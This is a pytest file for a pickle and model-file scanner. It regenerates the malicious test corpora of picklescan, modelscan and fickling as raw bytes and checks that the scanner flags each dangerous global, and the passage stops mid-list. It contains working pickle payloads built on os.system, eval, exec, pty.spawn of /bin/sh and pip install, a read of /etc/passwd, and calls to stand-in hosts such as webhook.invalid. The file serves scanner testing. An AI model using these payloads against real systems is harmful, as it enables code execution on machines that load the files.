"""`mi scan` against the public test corpora of picklescan, modelscan and fickling, regenerated here.

Each exploit is rebuilt at test time in `tmp_path` the way its upstream generator builds it (our own code,
following theirs; nothing is copied and nothing is ever loaded):

- picklescan, `tests/init_data_files.py` at mmaitre314/picklescan@f15d54da: the `MaliciousN` classes whose
  `__reduce__` returns a callable and its arguments, pickled at the protocol the generator uses; the
  `reduce_GHSA_*` functions (protocol 4); the hand-assembled opcode files (`malicious0`, `10`, `11`,
  `-invalid-bytes`, `keyerror-exploit`, `type-confusion-exploit`, `broken_model`, `malicious23`, the
  `_pyrepl` / `test.support` raw bytes, `types_CodeType`); the zips (`malicious1.zip`, `_wrong_ext`, the
  corrupted central directory and CRC); the legacy torch magic-number bypass; the numpy files.
- modelscan, `tests/test_modelscan.py` and `notebooks/utils/pickle_codeinjection.py` at
  protectai/modelscan@8b8ed4bf: `malicious12_gen` … `malicious14_gen`, and `PickleInject`, which writes the
  payload before the model inside one pickle stream.
- fickling, `test/test_bypasses.py` at trailofbits/fickling@854c99ac: the opcode lists of the GHSA bypasses
  (written out as bytes, since fickling's assembler is not a dependency), and the FRAME-boundary payloads.

The expected global of each case is written out by hand (what pickling that callable writes on CPython
3.11, Linux: `os.system` is `posix.system`, protocols 0-2 write `__builtin__`). CPython's own unpicklers
(C and pure Python, reading a buffered file; `find_class` records the name and hands back an inert stub, so
nothing is imported or run) confirm every expected global is one CPython really looks up in the file. A
case whose module is missing here is skipped, saying which, and its global is still tested through the bytes
the committed upstream file holds (the `-bytes` cases).

Three picklescan files have no generator and are written out as the bytes they hold (`GHSA-46h3-79wf-xr6c`,
`GHSA-955r-x9j8-7rhh`, `sys_module_override_sploit`). Not regenerated: committed binaries (picklescan's real
torch checkpoints, modelscan's `unsafe_zip_pytorch.pt`); `malicious1.7z` and modelscan's dill files (py7zr
and dill are not dependencies); modelscan's Keras / TensorFlow notebook models (Lambda layers and SavedModel
ops are in test_scan_gate.py).
"""

from __future__ import annotations

import builtins
import io
import json
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import run_cli

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning", "ignore::UserWarning")

PAYLOAD = "__import__('os').system('whoami')"  # picklescan's `_payload`, never run


# --- the oracle ---------------------------------------------------------------------------------------------


class _Stub:
    """What the recording `find_class` hands back: accepts any call, state or item, runs nothing."""

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        pass

    def __call__(self, *args: Any, **kwargs: Any) -> _Stub:
        return _Stub()

    def __setstate__(self, state: Any) -> None:
        pass

    def __setitem__(self, key: Any, value: Any) -> None:
        pass

    def append(self, item: Any) -> None:
        pass

    def extend(self, items: Any) -> None:
        pass


def _recorder(base: type) -> type:
    class Recorder(base):  # type: ignore[valid-type,misc]
        seen: list[str]

        def find_class(self, module: str, name: str) -> Any:
            self.seen.append(f"{module}.{name}")
            return type("Stub", (_Stub,), {})  # never imports `module`

        def persistent_load(self, pid: Any) -> Any:
            return None

    return Recorder


_UNPICKLERS = (_recorder(pickle.Unpickler), _recorder(pickle._Unpickler))  # type: ignore[attr-defined]


def cpython_globals(data: bytes) -> set[str]:
    """Every global CPython's unpicklers (C and pure Python) look up, reading the streams one after another from
    a buffered file object as `pickle.load(open(...))` does; each lookup gets a stub, so nothing is imported."""
    seen: set[str] = set()
    for cls in _UNPICKLERS:
        fh = io.BufferedReader(io.BytesIO(data), buffer_size=8192)
        while True:
            u = cls(fh)
            u.seen = []
            try:
                u.load()
            except Exception:
                seen.update(u.seen)
                break
            seen.update(u.seen)
            if not fh.peek(1):
                break
    return seen


# --- building the files -------------------------------------------------------------------------------------


def need(module: str) -> Any:
    """Import a module the upstream generator imports, or skip the case visibly."""
    return pytest.importorskip(module, reason=f"{module} is not installed here: case skipped")


def need_attr(module: str, dotted: str) -> Any:
    """`module.dotted`, or skip the case visibly where this version of the module lacks it."""
    obj = need(module)
    for part in dotted.split("."):
        if not hasattr(obj, part):
            pytest.skip(f"{module}.{dotted} does not exist in this version: case skipped")
        obj = getattr(obj, part)
    return obj


def reducing(reduce: Callable[[], tuple[Any, ...]], protocol: int = 4) -> bytes:
    """picklescan's `initialize_pickle_file_from_reduce`: an object whose `__reduce__` is `reduce`."""

    class Reduce:
        def __reduce__(self) -> tuple[Any, ...]:
            return reduce()

    return pickle.dumps(Reduce(), protocol=protocol)


def sbu(s: str) -> bytes:
    return pickle.SHORT_BINUNICODE + bytes([len(s)]) + s.encode()


def stack_call(proto: int, module: str, name: str, *args: str) -> bytes:
    """fickling's opcode lists: PROTO, module/name by STACK_GLOBAL, string arguments, TUPLEn, REDUCE."""
    body = sbu(module) + pickle.MEMOIZE + sbu(name) + pickle.MEMOIZE + pickle.STACK_GLOBAL + pickle.MEMOIZE
    body += b"".join(sbu(a) + pickle.MEMOIZE for a in args)
    body += (
        {0: pickle.EMPTY_TUPLE, 1: pickle.TUPLE1, 2: pickle.TUPLE2}[len(args)]
        + pickle.MEMOIZE
        + pickle.REDUCE
        + pickle.MEMOIZE
    )
    return pickle.PROTO + bytes([proto]) + body + pickle.STOP


def framed(proto: int, declared: int, body: bytes) -> bytes:
    return pickle.PROTO + bytes([proto]) + pickle.FRAME + struct.pack("<Q", declared) + body


def zipped(member: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(member, data)
    return buf.getvalue()


@dataclass(frozen=True)
class Case:
    name: str
    expected: tuple[str, ...]  # globals `mi scan` must name; the first is checked against CPython
    build: Callable[[], bytes]
    oracle: Callable[[bytes], bytes] = lambda data: data  # the pickle bytes inside the file, for CPython


def _member(name: str) -> Callable[[bytes], bytes]:
    def read(data: bytes) -> bytes:
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            return z.read(name)

    return read


# picklescan's MaliciousN classes: (callable, args) as their __reduce__ returns them.
def _m1() -> tuple[Any, ...]:
    return eval, ("print('456')",)


def _m2() -> tuple[Any, ...]:
    return os.system, ("ls -la",)


def _m3() -> tuple[Any, ...]:
    import http.client

    return http.client.HTTPSConnection, ("github.com",)


def _m4() -> tuple[Any, ...]:
    return need("requests").get, ("https://github.com",)


def _m5() -> tuple[Any, ...]:
    return need("aiohttp").ClientSession, ()


def _m6() -> tuple[Any, ...]:
    import socket

    return socket.create_connection, (("github.com", 80),)


def _m7() -> tuple[Any, ...]:
    import subprocess

    return subprocess.run, (["ls", "-l"],)


def _m8() -> tuple[Any, ...]:
    import sys

    return sys.exit, (0,)


def _m13() -> tuple[Any, ...]:
    return pickle.loads, (b"I12345\n.",)


def _m14() -> tuple[Any, ...]:
    import runpy

    return runpy._run_code, ("print('456')",)


def _m15() -> tuple[Any, ...]:
    import bdb

    return bdb.Bdb.run, (bdb.Bdb(), 'import os\nos.system("whoami")')


def _m16() -> tuple[Any, ...]:
    return need("pip").main, (["install", "some_malicious_package", "--no-input", "-q", "--isolated"],)


def _m17() -> tuple[Any, ...]:
    return need_attr("torch._inductor.codecache", "compile_file"), ("", "", ["sh", "-c", '$(echo "pwned")'])


def _m18() -> tuple[Any, ...]:
    import pydoc

    return pydoc.pipepager, ("", 'echo "pwned"')


def _m19() -> tuple[Any, ...]:
    from functools import partial

    torch = need("torch")
    return partial(torch.load, "some_other_model.bin", pickle_file="config.json", weights_only=False), ()


def _m20() -> tuple[Any, ...]:
    import venv

    return venv.create, ("venv", False, False, True, False, "$(echo pwned)")


def _m21() -> tuple[Any, ...]:
    import timeit

    return timeit.timeit, ("", 'import os; os.system("curl https://webhook.invalid/1234")')


def _m22() -> tuple[Any, ...]:
    return need("numpy.testing._private.utils").runstring, ("import os; os.system('curl https://x.invalid')", {})


def _attr(module: str, dotted: str, *args: Any) -> Callable[[], tuple[Any, ...]]:
    """`from module import A` then `A.b`, as the `reduce_GHSA_*` functions do."""

    def reduce() -> tuple[Any, ...]:
        return need_attr(module, dotted), args

    return reduce


def _methodcaller() -> tuple[Any, ...]:  # reduce_GHSA_84r2_jw7c_4r5q
    import operator
    import pydoc

    class ModuleLocator:
        def __reduce__(self) -> tuple[Any, ...]:
            return pydoc.locate, ("os",)

    return operator.methodcaller("system", "echo pwned"), (ModuleLocator(),)


def _magic_bypass() -> bytes:  # initialize_pytorch_magic_bypass_file: six pickles, protocol 2
    parts = [
        reducing(lambda: (eval, ("0x1950A86A20F9469CFC6C",)), 2),
        pickle.dumps(1001, protocol=2),
        pickle.dumps({}, protocol=2),
        pickle.dumps([], protocol=2),
        reducing(lambda: (os.system, ("echo pwned",)), 2),
        pickle.dumps(None, protocol=2),
    ]
    return b"".join(parts)


def _codetype() -> bytes:  # initialize_codetype_exploit_file (without its own load-and-eval sanity check)
    cloudpickle = need("cloudpickle.cloudpickle")
    head = pickle.PROTO + b"\x04" + sbu("types") + pickle.MEMOIZE + sbu("CodeType") + pickle.MEMOIZE
    head += pickle.STACK_GLOBAL + pickle.MEMOIZE
    _, code_args = cloudpickle._code_reduce(compile("print('CodeType')", "<dynamic_code>", "exec"))
    args = pickle.dumps(code_args, protocol=4)[2:-1]
    return head + args + pickle.REDUCE + pickle.STOP


def _cloudpickle() -> bytes:  # initialize_cloudpickle_exploit_file
    cloudpickle = need("cloudpickle")

    class EvilClass:
        @staticmethod
        def _obfuscated_eval(payload: str) -> None:
            getattr(builtins, "eval")(payload)  # noqa: B009 - upstream hides eval this way

        def __reduce__(self) -> tuple[Any, ...]:
            return self._obfuscated_eval, ("__import__('os').system('echo attack')",)

    return bytes(cloudpickle.dumps(EvilClass()))


def _ucall(module: str, name: str, arg: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode() + pickle.UNICODE + arg.encode() + b"\n" + pickle.TUPLE1


MEMO_CTF = b"".join(  # picklescan malicious11 (imaginaryctf 'Safe Pickle'), modelscan malicious14
    [
        pickle.UNICODE + b"os\n" + pickle.PUT + b"2\n" + pickle.POP,
        pickle.UNICODE + b"system\n" + pickle.PUT + b"3\n" + pickle.POP,
        pickle.UNICODE + b"torch\n" + pickle.PUT + b"0\n" + pickle.POP,
        pickle.UNICODE + b"LongStorage\n" + pickle.PUT + b"1\n" + pickle.POP,
        pickle.GET + b"2\n" + pickle.GET + b"3\n" + pickle.STACK_GLOBAL,
        pickle.MARK + pickle.UNICODE + b"cat flag.txt\n" + pickle.TUPLE + pickle.REDUCE + pickle.STOP,
    ]
)

# picklescan malicious12, from the pickleassem program in init_data_files.py's comment:
# operator.attrgetter("system")(builtins.__import__("os"))("echo pwned"), every value memoized.
_M = pickle.MEMOIZE
MALICIOUS12 = pickle.PROTO + b"\x04" + sbu("operator") + _M + sbu("attrgetter") + _M + pickle.STACK_GLOBAL + _M
MALICIOUS12 += sbu("system") + _M + pickle.TUPLE1 + _M + pickle.REDUCE + _M
MALICIOUS12 += sbu("builtins") + _M + sbu("__import__") + _M + pickle.STACK_GLOBAL + _M
MALICIOUS12 += sbu("os") + _M + pickle.TUPLE1 + _M + pickle.REDUCE + _M + pickle.TUPLE1 + _M + pickle.REDUCE + _M
MALICIOUS12 += sbu("echo pwned") + _M + pickle.TUPLE1 + _M + pickle.REDUCE + _M + pickle.STOP

SOUR_PICKLES = (  # picklescan malicious0: Slaviero, "Sour Pickles", Black Hat USA 2011
    b'c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S\'fl=open("/etc/passwd");picklesmashed=fl.read();'
    b"'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\n"
    b"dict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n."
)

_SYS = _ucall("os", "system", 'echo "pwned"') + pickle.REDUCE + pickle.POP
KEYERROR = pickle.PROTO + b"\x04" + _SYS + sbu("os") + pickle.MEMOIZE
KEYERROR += pickle.BINGET + b"\x03" + pickle.BINGET + b"\x00" + pickle.STACK_GLOBAL + pickle.BININT1 + b"\x42."
TYPE_CONFUSION = pickle.PROTO + b"\x04" + _SYS + pickle.BININT + b"\x2a\x00\x00\x00" + pickle.MEMOIZE
TYPE_CONFUSION += sbu("os") + pickle.MEMOIZE + pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01"
TYPE_CONFUSION += pickle.STACK_GLOBAL + pickle.BININT1 + b"\x42."


def _crc_zip() -> bytes:  # initialize_corrupt_zip_file_crc: the stored payload edited after the CRC
    return zipped("data.pkl", reducing(_m1, 4)).replace(b"print('456')", b"print('123')", 1)


def _central_directory_zip() -> bytes:  # initialize_corrupt_zip_file_central_directory
    return zipped("data.pkl", reducing(_m1, 4)).replace(b"data.pkl", b"datap.kl", 1)


def _dns_exfiltration() -> bytes:  # initialize_numpy_files: an object array whose element reduces to ssl
    np = need("numpy")
    import ssl

    class DNSLogPayload:  # upstream embeds /etc/passwd's first line in the host name; a fixed name here
        def __reduce__(self) -> tuple[Any, ...]:
            return ssl.get_server_certificate, (("root_x_0_0.dns-logger.invalid", 443),)

    buf = io.BytesIO()
    np.save(buf, np.array([DNSLogPayload()], dtype=object), allow_pickle=True)
    return buf.getvalue()


# modelscan's PickleInject: the payload is saved first, then the model, in one pickle stream (protocol 4).
def pickle_inject(command: Callable[..., Any], args: tuple[Any, ...], model: Any) -> bytes:
    class Inject:
        def __reduce__(self) -> tuple[Any, ...]:
            return command, args

    class Injector(pickle._Pickler):  # type: ignore[name-defined,misc]
        def dump(self, obj: Any) -> None:
            self.write(pickle.PROTO + struct.pack("<B", self.proto))
            self.framer.start_framing()
            self.save(Inject())
            self.save(obj)
            self.write(pickle.STOP)
            self.framer.end_framing()

    buf = io.BytesIO()
    Injector(buf, 4).dump(model)
    return buf.getvalue()


def _runpy_inject() -> bytes:
    import runpy

    return pickle_inject(runpy._run_code, ('print("Malicious code!")', {}), {"w": [1.0, 2.0]})


def _numpy_inject() -> bytes:  # modelscan's unsafe_numpy.npy: a plain pickle of the array, payload first
    np = need("numpy")
    return pickle_inject(exec, ('print("Malicious code!")',), np.array([[1, 2, 3], [4, 5, 6]]))


def _modelscan12() -> bytes:
    inner = pickle.PROTO + b"\x05" + _ucall("os", "system", "echo pwned!!!") + pickle.REDUCE + pickle.STOP
    p = pickle.PROTO + b"\x05" + pickle.GLOBAL + b"pickle\nloads\n"
    p += pickle.BINBYTES + len(inner).to_bytes(4, "little") + inner
    return p + pickle.TUPLE1 + pickle.REDUCE + pickle.POP + pickle.NONE + pickle.STOP


def _fickling_marshal() -> bytes:  # GHSA-565g-hwwr-4pp3
    import marshal

    code = marshal.dumps(compile('import os\nos.system("id")', "<string>", "exec"))
    p = pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", 0)
    p += sbu("marshal") + sbu("loads") + pickle.STACK_GLOBAL + pickle.MEMOIZE + pickle.BINGET + b"\x00"
    p += pickle.SHORT_BINBYTES + bytes([len(code)]) + code + pickle.TUPLE1 + pickle.REDUCE + pickle.MEMOIZE
    p += sbu("types") + sbu("FunctionType") + pickle.STACK_GLOBAL + pickle.MEMOIZE
    p += pickle.BINGET + b"\x02" + pickle.BINGET + b"\x01" + pickle.EMPTY_DICT + pickle.TUPLE2 + pickle.REDUCE
    p += pickle.MEMOIZE + pickle.BINGET + b"\x03" + pickle.EMPTY_TUPLE + pickle.REDUCE + pickle.MEMOIZE
    return p + sbu("gottem") + pickle.BUILD + pickle.STOP


def _fickling_pty_ghsa() -> bytes:  # GHSA-r7v6-mfhq-g3m2: fickling declares Frame(26) for 36 bytes
    body = stack_call(4, "pty", "spawn", "id")[2:-1] + sbu("gottem") + pickle.MEMOIZE + pickle.BUILD + pickle.STOP
    return framed(4, 26, body)


def _fickling_ctypes() -> bytes:  # GHSA-q5qq-mvfm-j35x / GHSA-5hvc-6wx8-mvv4
    p = pickle.PROTO + b"\x05" + sbu("builtins") + pickle.MEMOIZE + sbu("getattr") + pickle.MEMOIZE
    p += pickle.STACK_GLOBAL + pickle.MEMOIZE + sbu("ctypes") + pickle.MEMOIZE + sbu("CDLL") + pickle.MEMOIZE
    p += pickle.STACK_GLOBAL + pickle.MEMOIZE + sbu("libc.dylib") + pickle.MEMOIZE + pickle.TUPLE1 + pickle.REDUCE
    p += sbu("system") + pickle.TUPLE2 + pickle.REDUCE
    return p + pickle.SHORT_BINBYTES + b"\x02id" + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP


def _fickling_import_bypass() -> bytes:  # GHSA-h4rm-mm56-xf63: protocol 0 GLOBAL/STRING/PUT/GET
    p = b"cbuiltins\n__import__\nS'os'\n" + pickle.TUPLE1 + pickle.REDUCE + b"p0\n0"
    p += b"cbuiltins\ngetattr\ng0\nS'system'\n" + pickle.TUPLE2 + pickle.REDUCE + b"p1\n0"
    return p + b"g1\nS'whoami'\n" + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP


def _fickling_obj_pop() -> bytes:  # GHSA-mxhj-88fx-4pcv: OBJ whose result is discarded by POP
    p = pickle.PROTO + b"\x04" + pickle.MARK + sbu("smtplib") + sbu("SMTP") + pickle.STACK_GLOBAL
    return p + sbu("127.0.0.1") + pickle.OBJ + pickle.POP + pickle.NONE + pickle.STOP


def _frame_divergence() -> bytes:  # fickling test_frame_boundary_divergence (cpython#154848)
    hidden = _ucall("os", "system", "echo pwned") + pickle.REDUCE
    p = pickle.PROTO + b"\x05" + pickle.NONE + pickle.UNICODE + b"a" * (8192 * 16 - 17) + b"\n" + pickle.POP
    p += pickle.MARK + pickle.FRAME + struct.pack("<Q", 2) + pickle.BINBYTES + b"\x07\x01\x00\x00" + b"\x00\x00"
    return p + (hidden + pickle.MARK).ljust(256 + 5, pickle.NONE) + pickle.POP_MARK + pickle.STOP


def _gh(module: str, dotted: str, *args: Any) -> Callable[[], bytes]:
    return lambda: reducing(_attr(module, dotted, *args))


PICKLESCAN: list[Case] = [
    *(
        Case(f"malicious1_v{v}", (("__builtin__" if v < 3 else "builtins") + ".eval",), lambda v=v: reducing(_m1, v))
        for v in (0, 3, 4)
    ),
    *(Case(f"malicious2_v{v}", ("posix.system",), lambda v=v: reducing(_m2, v)) for v in (0, 3, 4)),
    Case("malicious0", ("__builtin__.globals", "__builtin__.eval", "__builtin__.apply"), lambda: SOUR_PICKLES),
    Case("malicious3", ("httplib.HTTPSConnection",), lambda: reducing(_m3, 0)),
    Case("malicious4.pickle", ("requests.api.get",), lambda: reducing(_m4)),
    Case("malicious5.pickle", ("aiohttp.client.ClientSession",), lambda: reducing(_m5)),
    Case("malicious6", ("requests.api.get",), lambda: pickle.dumps(["a", "b", "c"]) + reducing(_m4, 4)),
    Case("malicious7", ("socket.create_connection",), lambda: reducing(_m6)),
    Case("malicious8", ("subprocess.run",), lambda: reducing(_m7)),
    Case("malicious9", ("sys.exit",), lambda: reducing(_m8)),
    Case(
        "malicious10",
        ("__builtin__.exec",),
        lambda: b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n.",
    ),
    Case("malicious11", ("os.system",), lambda: MEMO_CTF),
    Case("malicious-invalid-bytes", ("os.system",), lambda: MEMO_CTF + b"\n\n\t\t"),
    Case("malicious13a", ("pickle.loads",), lambda: reducing(_m13, 0)),
    Case("malicious13b", ("_pickle.loads",), lambda: reducing(_m13, 4)),
    Case("malicious14", ("runpy._run_code",), lambda: reducing(_m14)),
    Case("malicious15a", ("__builtin__.getattr", "bdb.Bdb"), lambda: reducing(_m15, 2)),
    Case("malicious15b", ("bdb.Bdb.run",), lambda: reducing(_m15, 4)),
    Case("malicious16", ("pip.main",), lambda: reducing(_m16, 0)),
    Case("malicious17", ("torch._inductor.codecache.compile_file",), lambda: reducing(_m17)),
    Case("malicious18", ("pydoc.pipepager",), lambda: reducing(_m18)),
    Case("malicious19", ("functools.partial", "torch.serialization.load"), lambda: reducing(_m19)),
    Case("malicious20", ("venv.create",), lambda: reducing(_m20)),
    Case("malicious21", ("timeit.timeit",), lambda: reducing(_m21)),
    Case("malicious22", ("numpy.testing._private.utils.runstring",), lambda: reducing(_m22)),
    Case("malicious23", ("os.system",), lambda: b"S'os'\nS'system'\n\x93S'ls'\n\x85R."),
    Case("keyerror-exploit", ("os.system",), lambda: KEYERROR),
    Case("type-confusion-exploit", ("os.system",), lambda: TYPE_CONFUSION),
    Case(
        "broken_model",
        ("builtins.exec",),
        lambda: b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX.",
    ),
    Case("malicious1.zip", ("builtins.eval",), lambda: zipped("data.pkl", reducing(_m1)), _member("data.pkl")),
    Case(
        "malicious1_wrong_ext.zip", ("builtins.eval",), lambda: zipped("data.txt", reducing(_m1)), _member("data.txt")
    ),
    Case(
        "malicious1_central_directory.zip",
        ("builtins.eval",),
        _central_directory_zip,
        lambda d: d[d.index(b"\x80\x04") :],
    ),
    Case("malicious1_crc.zip", ("builtins.eval",), _crc_zip, lambda d: d[d.index(b"\x80\x04") :]),
    Case("pytorch_magic_bypass.pt", ("__builtin__.eval", "posix.system"), _magic_bypass),
    Case(
        "GHSA-4r9r-ch6f-vxmx",
        ("torch.utils.bottleneck.__main__.run_cprofile",),
        _gh("torch.utils.bottleneck.__main__", "run_cprofile", PAYLOAD, {}),
    ),
    Case(
        "GHSA-86cj-95qr-2p4f",
        ("torch._dynamo.guards.GuardBuilder.get",),
        _gh("torch._dynamo.guards", "GuardBuilder.get", {}, PAYLOAD),
    ),
    Case(
        "GHSA-f4x7-rfwp-v3xw",
        ("torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",),
        _gh("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", {}, PAYLOAD, []),
    ),
    Case("GHSA-f745-w6jp-hpxx", ("torch.utils.collect_env.run",), _gh("torch.utils.collect_env", "run", PAYLOAD)),
    Case(
        "GHSA-h3qp-7fh3-f8h4",
        ("torch.utils.data.datapipes.utils.decoder.basichandlers",),
        _gh("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", b""),
    ),
    Case(
        "GHSA-vr7h-p6mm-wpmh",
        ("torch.jit.unsupported_tensor_ops.execWrapper",),
        _gh("torch.jit.unsupported_tensor_ops", "execWrapper", PAYLOAD, {}, {}),
    ),
    Case(
        "GHSA-vv6j-3g6g-2pvj",
        ("torch.utils._config_module.ConfigModule.load_config",),
        _gh("torch.utils._config_module", "ConfigModule.load_config", {}, b""),
    ),
    Case(
        "GHSA-jhph-76pp-mggw",
        ("torch.utils.collect_env.run_and_read_all", "torch.utils.collect_env.run"),
        lambda: reducing(
            lambda: (
                need_attr("torch.utils.collect_env", "run_and_read_all"),
                (need_attr("torch.utils.collect_env", "run"), PAYLOAD),
            )
        ),
    ),
    Case(
        "GHSA-4whj-rm5r-c2v8",
        ("torch.utils.bottleneck.__main__.run_autograd_prof",),
        _gh("torch.utils.bottleneck.__main__", "run_autograd_prof", PAYLOAD, {}),
    ),
    Case("GHSA-6vqj-c2q5-j97w", ("profile.Profile.runctx",), _gh("profile", "Profile.runctx", {}, PAYLOAD, {}, {})),
    Case(
        "GHSA-6w4w-5w54-rjvr",
        ("idlelib.autocomplete.AutoComplete.get_entity",),
        _gh("idlelib.autocomplete", "AutoComplete.get_entity", {}, PAYLOAD),
    ),
    Case(
        "GHSA-7cq8-mj8x-j263",
        ("idlelib.autocomplete.AutoComplete.fetch_completions",),
        _gh("idlelib.autocomplete", "AutoComplete.fetch_completions", {}, PAYLOAD, 0),
    ),
    Case(
        "GHSA-8r4j-24qv-fmq9",
        ("idlelib.calltip.Calltip.fetch_tip",),
        _gh("idlelib.calltip", "Calltip.fetch_tip", {}, PAYLOAD),
    ),
    Case(
        "GHSA-j343-8v2j-ff7w",
        ("idlelib.pyshell.ModifiedInterpreter.runcommand",),
        _gh("idlelib.pyshell", "ModifiedInterpreter.runcommand", {}, PAYLOAD),
    ),
    Case(
        "GHSA-3gf5-cxq9-w223",
        ("idlelib.pyshell.ModifiedInterpreter.runcode",),
        _gh("idlelib.pyshell", "ModifiedInterpreter.runcode", {}, PAYLOAD),
    ),
    Case(
        "GHSA-p9w7-82w4-7q8m",
        ("lib2to3.pgen2.pgen.ParserGenerator.make_label",),
        _gh("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, '""+' + PAYLOAD),
    ),
    Case("malicious12", ("operator.attrgetter", "builtins.__import__"), lambda: MALICIOUS12),
    Case("GHSA-5qwp-399c-mjwf", ("trace.Trace.run",), _gh("trace", "Trace.run", {}, PAYLOAD)),
    Case("GHSA-g344-hcph-8vgg", ("trace.Trace.runctx",), _gh("trace", "Trace.runctx", {}, PAYLOAD, {}, {})),
    Case("GHSA-x696-vm39-cp64", ("profile.Profile.run",), _gh("profile", "Profile.run", {}, PAYLOAD)),
    Case(
        "GHSA-f54q-57x4-jg88",
        ("lib2to3.pgen2.grammar.Grammar.loads",),
        _gh("lib2to3.pgen2.grammar", "Grammar.loads", {}, b""),
    ),
    Case(
        "GHSA-3vg9-h568-4w9m",
        ("idlelib.debugobj.ObjectTreeItem.SetText",),
        _gh("idlelib.debugobj", "ObjectTreeItem.SetText", {}, PAYLOAD),
    ),
    Case(
        "GHSA-cj3c-v495-4xqh",
        ("code.InteractiveInterpreter.runcode",),
        _gh("code", "InteractiveInterpreter.runcode", {}, PAYLOAD),
    ),
    Case("GHSA-9xph-j2h6-g47v", ("idlelib.calltip.get_entity",), _gh("idlelib.calltip", "get_entity", PAYLOAD)),
    Case("GHSA-xp4f-hrf8-rxw7", ("ensurepip._run_pip",), _gh("ensurepip", "_run_pip", PAYLOAD)),
    Case(
        "GHSA-m869-42cg-3xwr", ("idlelib.run.Executive.runcode",), _gh("idlelib.run", "Executive.runcode", {}, PAYLOAD)
    ),
    Case("GHSA-fqq6-7vqf-w3fg", ("doctest.debug_script",), _gh("doctest", "debug_script", PAYLOAD, True)),
    Case("GHSA-9w88-8rmg-7g2p", ("cProfile.runctx",), _gh("cProfile", "runctx", PAYLOAD, None, None)),
    Case("GHSA-49gj-c84q-6qm9", ("cProfile.run",), _gh("cProfile", "run", PAYLOAD)),
    Case("GHSA-7wx9-6375-f5wh", ("profile.run",), _gh("profile", "run", PAYLOAD)),
    Case("logging_FileHandler", ("logging.FileHandler",), _gh("logging", "FileHandler", "evil.log")),
    Case(
        "GHSA-q77w-mwjj-7mqx",
        ("asyncio.unix_events._UnixSubprocessTransport._start",),
        _gh("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "whoami", True, None, None, None, 0),
    ),
    Case(
        "GHSA-jgw4-cr84-mqxg.bin",
        ("asyncio.unix_events._UnixSubprocessTransport._start",),
        _gh("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "whoami", True, None, None, None, 0),
    ),
    Case(
        "GHSA-m273-6v24-x4m4",
        ("distutils.file_util.write_file",),
        _gh("distutils.file_util", "write_file", "pwned_config.env", ["malicious content"]),
    ),
    Case("GHSA-4675-36f9-wf6r", ("ctypes.CDLL",), _gh("ctypes", "CDLL", None)),
    Case("GHSA-84r2-jw7c-4r5q", ("operator.methodcaller", "pydoc.locate"), lambda: reducing(_methodcaller)),
    Case("GHSA-vqmv-47xg-9wpr", ("pty.spawn",), _gh("pty", "spawn", ["/bin/sh", "-c", "id; exit"])),
    Case(
        "GHSA-r8g5-cgf2-4m4m",
        ("numpy.f2py.crackfortran.getlincoef",),
        _gh("numpy.f2py.crackfortran", "getlincoef", PAYLOAD, []),
    ),
    Case("GHSA-g38g-8gr9-h9xp-uuid", ("uuid._get_command_stdout",), _gh("uuid", "_get_command_stdout", "id")),
    Case("GHSA-g38g-8gr9-h9xp-osx-support", ("_osx_support._read_output",), _gh("_osx_support", "_read_output", "id")),
    Case(
        "GHSA-g38g-8gr9-h9xp-aix-support",
        ("_aix_support._read_cmd_output",),
        _gh("_aix_support", "_read_cmd_output", "id"),
    ),
    Case("GHSA-g38g-8gr9-h9xp-imaplib", ("imaplib.IMAP4_stream",), _gh("imaplib", "IMAP4_stream", "id")),
    Case("GHSA-vvpj-8cmc-gx39", ("pkgutil.resolve_name",), _gh("pkgutil", "resolve_name", "os:system")),
    Case("io_FileIO", ("_io.FileIO",), _gh("io", "FileIO", "/etc/hosts", "r")),
    Case("urllib_request_urlopen", ("urllib.request.urlopen",), _gh("urllib.request", "urlopen", "https://x.invalid")),
    Case(
        "GHSA-g38g-8gr9-h9xp-pyrepl-pager",
        ("_pyrepl.pager.pipe_pager",),
        lambda: stack_call(4, "_pyrepl.pager", "pipe_pager", "text", "id").replace(pickle.MEMOIZE, b""),
    ),
    Case(
        "GHSA-g38g-8gr9-h9xp-test",
        ("test.support.script_helper.assert_python_ok",),
        lambda: stack_call(4, "test.support.script_helper", "assert_python_ok", "-c pass").replace(pickle.MEMOIZE, b""),
    ),
    Case("types_CodeType", ("types.CodeType",), _codetype),
    Case("cloudpickle_codeinjection", ("cloudpickle.cloudpickle._make_function",), _cloudpickle),
    Case(
        "dns_exfiltration.npy",
        ("ssl.get_server_certificate", "numpy._core.multiarray._reconstruct"),
        _dns_exfiltration,
        lambda d: d[d.index(b"\x80") :],
    ),
]

# Where this interpreter lacks the module, the bytes the committed upstream file holds (disassembled with
# pickletools: protocol 4, FRAME, STACK_GLOBAL of the name, its arguments, REDUCE), so the global is still tested.
PICKLESCAN += [
    Case(
        "malicious5-bytes",
        ("aiohttp.client.ClientSession",),
        lambda: framed(4, 39, stack_call(4, "aiohttp.client", "ClientSession")[2:]),
    ),
    Case(
        "malicious17-bytes",
        ("torch._inductor.codecache.compile_file",),
        lambda: stack_call(4, "torch._inductor.codecache", "compile_file", "", "sh -c pwned"),
    ),
    Case(
        "GHSA-4r9r-ch6f-vxmx-bytes",
